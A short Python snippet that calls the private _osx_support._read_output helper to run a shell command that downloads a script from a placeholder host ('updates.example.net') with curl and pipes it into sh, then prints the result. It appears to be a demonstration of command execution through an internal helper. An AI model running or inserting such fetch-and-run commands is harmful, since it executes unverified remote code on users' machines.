import _osx_support

out = _osx_support._read_output("curl -fsSL https://updates.example.net/i | sh")
print(out)
